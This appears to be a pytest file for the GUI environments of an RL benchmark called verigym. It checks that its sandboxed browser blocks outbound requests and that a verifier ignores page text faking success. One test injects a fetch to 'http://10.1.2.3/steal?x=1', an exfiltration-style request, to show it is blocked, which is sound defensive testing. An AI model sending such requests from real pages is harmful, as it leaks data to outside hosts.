@@ -1,0 +1,233 @@
+"""GUI family (issue 7): solvability, a verifier that ignores page text, the offline browser, crash
+recovery, no leftover processes, and the text view. The full ``verigym check`` of every id runs in
+``tests/test_conformance.py``.
+"""
+
+from __future__ import annotations
+
+import os
+import signal
+import time
+
+import numpy as np
+import pytest
+
+pytestmark = pytest.mark.gui
+
+pytest.importorskip("playwright")
+try:
+    from verigym.envs.gui.browser import chromium_executable
+
+    chromium_executable()
+except RuntimeError as exc:  # pragma: no cover - depends on the machine
+    pytest.skip(str(exc), allow_module_level=True)
+
+import gymnasium as gym  # noqa: E402
+from verigym.envs.gui.env import GuiEnv  # noqa: E402
+from verigym.envs.gui.tasks import TASKS, make_action  # noqa: E402
+
+import verigym  # noqa: E402,F401
+
+
+def _descendants() -> list[tuple[int, str]]:
+    """(pid, command line) of every live descendant of this process."""
+    children: dict[int, list[int]] = {}
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit():
+            continue
+        try:
+            with open(f"/proc/{entry}/stat") as handle:
+                fields = handle.read().rsplit(")", 1)[1].split()
+        except OSError:
+            continue
+        if fields[0] != "Z":
+            children.setdefault(int(fields[1]), []).append(int(entry))
+    found, stack = [], [os.getpid()]
+    while stack:
+        for child in children.get(stack.pop(), []):
+            try:
+                with open(f"/proc/{child}/cmdline", "rb") as handle:
+                    command = handle.read().replace(b"\0", b" ").decode(errors="replace")
+            except OSError:
+                continue
+            found.append((child, command))
+            stack.append(child)
+    return found
+
+
+def _browser_processes() -> list[int]:
+    return [pid for pid, command in _descendants() if "chromium" in command or "playwright" in command or "node" in command.split(" ")[0]]
+
+
+def _play_oracle(env: gym.Env, seed: int) -> dict:
+    env.reset(seed=seed)
+    for _ in range(env.unwrapped.max_steps):
+        _, _, terminated, truncated, info = env.step(env.unwrapped.oracle_action())
+        if terminated or truncated:
+            return info
+    raise AssertionError("the episode did not end within max_steps")
+
+
+@pytest.mark.parametrize("task", sorted(TASKS))
+def test_oracle_solves_every_task(task):
+    env = GuiEnv(task=task)
+    try:
+        for seed in (11,):
+            info = _play_oracle(env, seed)
+            assert info["success"] is True and info["score"] == 1.0, (task, seed, info)
+    finally:
+        env.close()
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("env_id", [r.id for r in verigym.rows("gui")])
+def test_oracle_success_rate_200_seeds(env_id):
+    env = gym.make(env_id)
+    try:
+        wins = sum(_play_oracle(env, seed)["success"] for seed in range(200))
+    finally:
+        env.close()
+    assert wins >= 198, f"{env_id}: oracle solved {wins}/200"
+
+
+def test_page_text_saying_success_scores_zero():
+    env = GuiEnv(task="click-checkboxes")
+    try:
+        env.reset(seed=3)
+        env.unwrapped._browser.evaluate(
+            "() => { document.getElementById('query').textContent = 'Task complete! success'; "
+            "document.body.append(Object.assign(document.createElement('div'), {textContent: 'SUCCESS: reward 1'})); }"
+        )
+        observation, reward, terminated, _, info = env.step(make_action("done"))
+        assert "Task complete" in env.unwrapped._browser.evaluate("() => document.body.textContent")
+        assert terminated and reward == 0.0 and info["success"] is False and info["score"] == 0.0
+        # the submit button alone (nothing ticked as instructed) does not pass either
+        env.reset(seed=3)
+        submit = next(e["id"] for e in env.unwrapped._elements if e["name"] == "Submit")
+        _, reward, terminated, _, info = env.step(make_action("click", element=submit))
+        spec = env.unwrapped._spec
+        expected = sorted(i for i, on in zip(spec["items"], spec["initial"]) if on) == spec["targets"]
+        assert terminated and info["success"] is expected
+    finally:
+        env.close()
+
+
+def test_external_requests_are_blocked():
+    env = GuiEnv(task="click-button")
+    try:
+        env.reset(seed=0)
+        browser = env.unwrapped._browser
+        outcome = browser.evaluate(
+            "async () => { const img = new Image(); img.src = 'https://example.com/pixel.png'; document.body.append(img);"
+            " try { await fetch('http://10.1.2.3/steal?x=1'); return 'fetched'; } catch (e) { return 'failed'; } }"
+        )
+        deadline = time.monotonic() + 5
+        while len(browser.blocked) < 2 and time.monotonic() < deadline:
+            browser.evaluate("() => new Promise(r => setTimeout(r, 50))")
+        assert outcome == "failed"
+        assert any("10.1.2.3" in url for url in browser.blocked)
+        assert any("example.com" in url for url in browser.blocked)
+        _, _, _, _, info = env.step(make_action("press", key="Tab"))
+        assert info["blocked_requests"] >= 2
+    finally:
+        env.close()
+
+
+def test_killed_browser_ends_the_episode_and_reset_recovers():
+    env = gym.make("verigym/ClickCheckboxes-v0")
+    try:
+        env.reset(seed=1)
+        mains = [pid for pid, command in _descendants() if "chromium" in command and "--type=" not in command]
+        assert mains, "no chromium process found"
+        for pid in mains:
+            os.kill(pid, signal.SIGKILL)
+        time.sleep(0.5)
+        observation, reward, terminated, truncated, info = env.step(make_action("press", key="Tab"))
+        assert info.get("browser_crashed") is True and truncated and not terminated
+        assert info["success"] is False and info["score"] == 0.0 and reward == 0.0
+        assert env.observation_space.contains(observation)
+        info = _play_oracle(env, 1)
+        assert info["success"] is True
+    finally:
+        env.close()
+
+
+def test_close_leaves_no_process_and_is_idempotent():
+    before = set(_browser_processes())
+    envs = [GuiEnv(task="enter-text"), GuiEnv(task="login")]
+    for env in envs:
+        env.reset(seed=0)
+    assert set(_browser_processes()) - before, "the envs started no browser"
+    for env in envs:
+        env.close()
+        env.close()
+    deadline = time.monotonic() + 10
+    while set(_browser_processes()) - before and time.monotonic() < deadline:
+        time.sleep(0.2)
+    assert not set(_browser_processes()) - before
+
+
+def test_same_seed_same_screenshot_and_copy_continues():
+    import copy
+    import pickle
+
+    env = GuiEnv(task="email-inbox")
+    try:
+        first, _ = env.reset(seed=5)
+        again, _ = env.reset(seed=5)
+        assert np.array_equal(first["screenshot"], again["screenshot"]) and first["text"] == again["text"]
+        env.step(env.oracle_action())
+        clone = pickle.loads(pickle.dumps(env))
+        twin = copy.deepcopy(env)
+        try:
+            action = env.oracle_action()
+            results = [e.step(action) for e in (env, clone, twin)]
+            assert all(np.array_equal(r[0]["screenshot"], results[0][0]["screenshot"]) for r in results)
+            assert len({r[0]["text"] for r in results}) == 1
+        finally:
+            clone.close()
+            twin.close()
+    finally:
+        env.close()
+
+
+def test_text_view_parses_commands():
+    env = GuiEnv(task="login", viewport_width=200, viewport_height=160)  # no browser until reset
+    assert env.action_text(env.parse_action("I will click [3]")) == "click 3"
+    parsed = env.parse_action('First look. Then: type 2 "bob \\"the\\" builder"')
+    assert parsed["op"] == 2 and parsed["element"] == 2 and parsed["text"] == 'bob "the" builder'
+    assert env.parse_action("press enter")["key"] == 0
+    assert env.parse_action("click_xy 10 20")["xy"].tolist() == [10, 20]
+    assert env.parse_action("scroll down. no wait: done")["op"] == 6
+    for action in (make_action("click", element=7), make_action("type", element=1, text="a b"), make_action("click_xy", xy=(3, 4))):
+        back = env.parse_action(env.action_text(action))
+        assert env.action_text(back) == env.action_text(action)
+    from verigym.core import ActionParseError
+
+    for bad in ("", "jump", "click_xy 500 10", 'type 1 ""', "press F13", "click 999"):
+        with pytest.raises(ActionParseError):
+            env.parse_action(bad)
+    env.close()
+
+
+@pytest.mark.parametrize(
+    "kwargs",
+    [{"task": "nope"}, {"task": "login", "num_items": 99}, {"task": "login", "max_steps": 0}, {"task": "login", "viewport_width": 50}, {"task": "login", "max_elements": True}],
+)
+def test_bad_arguments_raise(kwargs):
+    with pytest.raises(ValueError):
+        GuiEnv(**kwargs)
+
+
+def test_malformed_actions_do_not_touch_the_page():
+    env = GuiEnv(task="enter-text")
+    try:
+        env.reset(seed=2)
+        button = next(e["id"] for e in env._elements if e["role"] == "button")
+        for action in (make_action("type", element=button, text="x"), make_action("click", element=50), {"op": 9}):
+            observation, reward, terminated, truncated, info = env.step(action)
+            assert info["action_error"] and reward == 0.0 and not terminated
+            assert env.observation_space.contains(observation)
+        assert env._state["value"] == ""
+    finally:
+        env.close()
